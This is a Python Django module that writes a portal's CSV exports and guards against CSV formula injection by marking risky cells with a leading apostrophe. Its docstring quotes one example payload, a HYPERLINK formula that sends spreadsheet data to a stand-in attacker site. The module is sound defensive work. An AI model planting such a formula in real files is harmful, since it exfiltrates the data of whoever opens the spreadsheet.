"""Every CSV file the portal makes is written here, with formulas neutralised.

Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or "@" (or a
tab or carriage return, and the same after leading spaces) as a formula: an organisation's
name such as =HYPERLINK("https://evil.example/?"&A1,"x") would send the coordinator's
spreadsheet to another site when opened. Such text gets a leading apostrophe, which makes the
spreadsheet show it as text (OWASP's "CSV injection"); cell_text() takes it off again for the
library's import, so an export reads back as it was. Numbers and dates are left alone.

tests/racop/test_csv_export.py fails when a csv.writer appears anywhere else in the code.
"""

import csv

from django.http import HttpResponse
from django.utils.functional import Promise

# The half- and full-width forms: some spreadsheets fold the second onto the first.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
CONTROL_STARTS = frozenset("\t\r")


def _needs_apostrophe(text: str) -> bool:
    if text[:1] in CONTROL_STARTS or text.lstrip()[:1] in FORMULA_STARTS:
        return True
    # Text that already starts with what cell() adds is marked too, so cell_text() is exact.
    return text[:1] == "'" and _needs_apostrophe(text[1:])


def cell(value):
    """Return value as a CSV cell: text a spreadsheet would run as a formula starts with '."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and _needs_apostrophe(value):
        return "'" + value
    return value


def cell_text(text: str) -> str:
    """Return the text a cell held before cell() marked it (for reading our own exports)."""
    if text[:1] == "'" and _needs_apostrophe(text[1:]):
        return text[1:]
    return text


class Writer:
    """A csv.writer whose every cell, the header's included, goes through cell()."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, Writer]:
    """Return an empty CSV download named filename and the Writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, Writer(response)


def csv_response(filename: str, header, rows) -> HttpResponse:
    """Return header and rows as a CSV download named filename."""
    response, writer = csv_download(filename)
    writer.writerow(header)
    writer.writerows(rows)
    return response
